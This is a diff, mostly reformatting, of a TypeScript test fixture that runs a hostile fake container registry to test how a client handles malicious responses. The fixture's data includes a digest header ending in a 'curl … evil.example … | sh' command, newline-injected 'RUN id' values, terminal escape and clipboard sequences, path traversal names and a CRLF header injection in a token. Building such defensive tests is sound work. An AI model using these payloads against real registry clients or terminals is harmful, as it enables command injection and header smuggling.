@@ -31,7 +31,17 @@ export const HOSTILE_TAGS = [
   'tag\u2028next',
 ];
 export const GOOD_REPOSITORIES = ['ok', 'team/app'];
-export const HOSTILE_REPOSITORIES = ['Team/App', 'a/../b', 'x\ny', '\u001b[2Jwipe', 'a b', '/abs', 'a//b', `a/${'b'.repeat(260)}`, 'a\u0000b'];
+export const HOSTILE_REPOSITORIES = [
+  'Team/App',
+  'a/../b',
+  'x\ny',
+  '\u001b[2Jwipe',
+  'a b',
+  '/abs',
+  'a//b',
+  `a/${'b'.repeat(260)}`,
+  'a\u0000b',
+];
 export const DIGEST_OF_NOTHING = `sha256:${createHash('sha256').update('').digest('hex')}`;
 /** A printable digest-looking header with a shell command after it (headers cannot carry a newline). */
 export const HOSTILE_DIGEST_HEADER = `${DIGEST_OF_NOTHING}; curl -fsSL https://evil.example/x | sh`;
@@ -51,19 +61,29 @@ const sha = (bytes: Uint8Array | string) => `sha256:${createHash('sha256').updat
 const bytes = (value: unknown) => Buffer.from(JSON.stringify(value));
 
 export async function startHostileRegistry(budget = 2000): Promise<HostileRegistry> {
-  const other = await startFaultServer({ '/v2/redirected/tags/list': (_q, res) => json(res, 200, { tags: ['from-other', 'x\ny'] }) });
+  const other = await startFaultServer({
+    '/v2/redirected/tags/list': (_q, res) => json(res, 200, { tags: ['from-other', 'x\ny'] }),
+  });
   const hungUp: string[] = [];
   let served = 0;
   const hostOf = (req: http.IncomingMessage) => req.headers.host!;
   const last = (req: http.IncomingMessage) => new URL(req.url!, 'http://x').searchParams.get('last');
-  const page = (field: 'tags' | 'repositories', items: string[], link?: string): Handler => (_q, res) => json(res, 200, { [field]: items }, link ? { Link: link } : {});
+  const page =
+    (field: 'tags' | 'repositories', items: string[], link?: string): Handler =>
+    (_q, res) =>
+      json(res, 200, { [field]: items }, link ? { Link: link } : {});
   const noteHangUp: (then: Handler) => Handler = (then) => (req, res, body) => {
     res.on('close', () => hungUp.push(new URL(req.url!, 'http://x').pathname));
     return then(req, res, body);
   };
 
   // a config blob and manifests whose fields carry escapes
-  const config = bytes({ os: 'linux\nRUN id', architecture: '\u001b]52;c;eA==\u0007', created: 'yesterday\n', config: {} });
+  const config = bytes({
+    os: 'linux\nRUN id',
+    architecture: '\u001b]52;c;eA==\u0007',
+    created: 'yesterday\n',
+    config: {},
+  });
   const image = bytes({
     schemaVersion: 2,
     mediaType: IMAGE_TYPE,
@@ -74,16 +94,37 @@ export async function startHostileRegistry(budget = 2000): Promise<HostileRegist
     schemaVersion: 2,
     mediaType: INDEX_TYPE,
     manifests: [
-      { mediaType: IMAGE_TYPE, digest: sha(image), size: image.byteLength, platform: { os: 'linux', architecture: 'amd64\u001b[0m' } },
-      { mediaType: IMAGE_TYPE, digest: sha(image), size: image.byteLength, platform: { os: 'linux', architecture: 'arm64', variant: 'v8\nx' }, annotations: { 'org.opencontainers.image.title': 'x\u001b]52;c;eA==\u0007' } },
+      {
+        mediaType: IMAGE_TYPE,
+        digest: sha(image),
+        size: image.byteLength,
+        platform: { os: 'linux', architecture: 'amd64\u001b[0m' },
+      },
+      {
+        mediaType: IMAGE_TYPE,
+        digest: sha(image),
+        size: image.byteLength,
+        platform: { os: 'linux', architecture: 'arm64', variant: 'v8\nx' },
+        annotations: { 'org.opencontainers.image.title': 'x\u001b]52;c;eA==\u0007' },
+      },
     ],
   });
-  const badEntryIndex = bytes({ schemaVersion: 2, mediaType: INDEX_TYPE, manifests: [{ mediaType: IMAGE_TYPE, digest: 'sha256:nothex\nRUN id', size: 1 }] });
-  const hugeIndex = bytes({ schemaVersion: 2, mediaType: INDEX_TYPE, manifests: Array.from({ length: 5000 }, () => ({ mediaType: IMAGE_TYPE, digest: sha(image), size: 1 })) });
-  const manifest = (body: Buffer, type: string, headers: Record<string, string> = {}): Handler => (_q, res) => {
-    res.writeHead(200, { 'Content-Type': type, 'Content-Length': body.byteLength, ...headers });
-    res.end(body);
-  };
+  const badEntryIndex = bytes({
+    schemaVersion: 2,
+    mediaType: INDEX_TYPE,
+    manifests: [{ mediaType: IMAGE_TYPE, digest: 'sha256:nothex\nRUN id', size: 1 }],
+  });
+  const hugeIndex = bytes({
+    schemaVersion: 2,
+    mediaType: INDEX_TYPE,
+    manifests: Array.from({ length: 5000 }, () => ({ mediaType: IMAGE_TYPE, digest: sha(image), size: 1 })),
+  });
+  const manifest =
+    (body: Buffer, type: string, headers: Record<string, string> = {}): Handler =>
+    (_q, res) => {
+      res.writeHead(200, { 'Content-Type': type, 'Content-Length': body.byteLength, ...headers });
+      res.end(body);
+    };
 
   const routes: Record<string, Handler> = {
     '/v2/': (_q, res) => json(res, 200, {}),
@@ -92,9 +133,17 @@ export async function startHostileRegistry(budget = 2000): Promise<HostileRegist
     // the same page again, for ever
     '/v2/stuck/tags/list': page('tags', ['a'], '</v2/stuck/tags/list?last=a&n=1000>; rel="next"'),
     // a → b → a → …
-    '/v2/round/tags/list': (req, res) => (last(req) === 'a' ? page('tags', ['b'], '</v2/round/tags/list?last=b>; rel="next"') : page('tags', ['a'], '</v2/round/tags/list?last=a>; rel="next"'))(req, res, ''),
+    '/v2/round/tags/list': (req, res) =>
+      (last(req) === 'a'
+        ? page('tags', ['b'], '</v2/round/tags/list?last=b>; rel="next"')
+        : page('tags', ['a'], '</v2/round/tags/list?last=a>; rel="next"'))(req, res, ''),
     // a new cursor each time, nothing new behind it
-    '/v2/stale/tags/list': (req, res) => page('tags', ['same'], `</v2/stale/tags/list?last=x${Number(last(req)?.slice(1) ?? 0) + 1}>; rel="next"`)(req, res, ''),
+    '/v2/stale/tags/list': (req, res) =>
+      page('tags', ['same'], `</v2/stale/tags/list?last=x${Number(last(req)?.slice(1) ?? 0) + 1}>; rel="next"`)(
+        req,
+        res,
+        '',
+      ),
     // new entries for ever
     '/v2/endless/tags/list': (req, res) => {
       const n = Number(last(req)?.slice(1) ?? 0) + 1;
@@ -144,7 +193,9 @@ export async function startHostileRegistry(budget = 2000): Promise<HostileRegist
     '/v2/silent/tags/list': noteHangUp(() => undefined),
     // a token that would add a header of its own
     '/v2/tokened/tags/list': (req, res) =>
-      req.headers.authorization ? json(res, 200, { tags: ['1'] }) : json(res, 401, {}, { 'WWW-Authenticate': `Bearer realm="http://${hostOf(req)}/token",service="hostile"` }),
+      req.headers.authorization
+        ? json(res, 200, { tags: ['1'] })
+        : json(res, 401, {}, { 'WWW-Authenticate': `Bearer realm="http://${hostOf(req)}/token",service="hostile"` }),
     '/token': (_q, res) => json(res, 200, { token: 'abc\r\nX-Injected: 1', expires_in: 300 }),
     // digests
     'HEAD /v2/app/manifests/bad-digest': (_q, res) => {
@@ -171,14 +222,22 @@ export async function startHostileRegistry(budget = 2000): Promise<HostileRegist
     '/v2/repositories/acme/': (req, res) =>
       json(res, 200, {
         next: `http://${hostOf(req)}/v2/repositories/acme/?page=2`,
-        results: [{ name: 'api', namespace: 'acme' }, { name: 'web\nRUN id', namespace: 'acme' }, { name: 'x', namespace: '\u001b[31macme' }, { name: 'Up' }],
+        results: [
+          { name: 'api', namespace: 'acme' },
+          { name: 'web\nRUN id', namespace: 'acme' },
+          { name: 'x', namespace: '\u001b[31macme' },
+          { name: 'Up' },
+        ],
       }),
-    '/v2/repositories/loop/': (req, res) => json(res, 200, { next: `http://${hostOf(req)}${req.url}`, results: [{ name: 'a' }] }),
-    '/v2/repositories/away/': (_q, res) => json(res, 200, { next: `${other.url}/v2/repositories/away/?page=2`, results: [{ name: 'a' }] }),
+    '/v2/repositories/loop/': (req, res) =>
+      json(res, 200, { next: `http://${hostOf(req)}${req.url}`, results: [{ name: 'a' }] }),
+    '/v2/repositories/away/': (_q, res) =>
+      json(res, 200, { next: `${other.url}/v2/repositories/away/?page=2`, results: [{ name: 'a' }] }),
   };
   const budgeted: Record<string, Handler> = {};
   for (const [route, handler] of Object.entries(routes)) {
-    budgeted[route] = (req, res, body) => (++served > budget ? json(res, 500, { errors: [{ code: 'BUDGET' }] }) : handler(req, res, body));
+    budgeted[route] = (req, res, body) =>
+      ++served > budget ? json(res, 500, { errors: [{ code: 'BUDGET' }] }) : handler(req, res, body);
   }
   const server = await startFaultServer(budgeted);
   return {
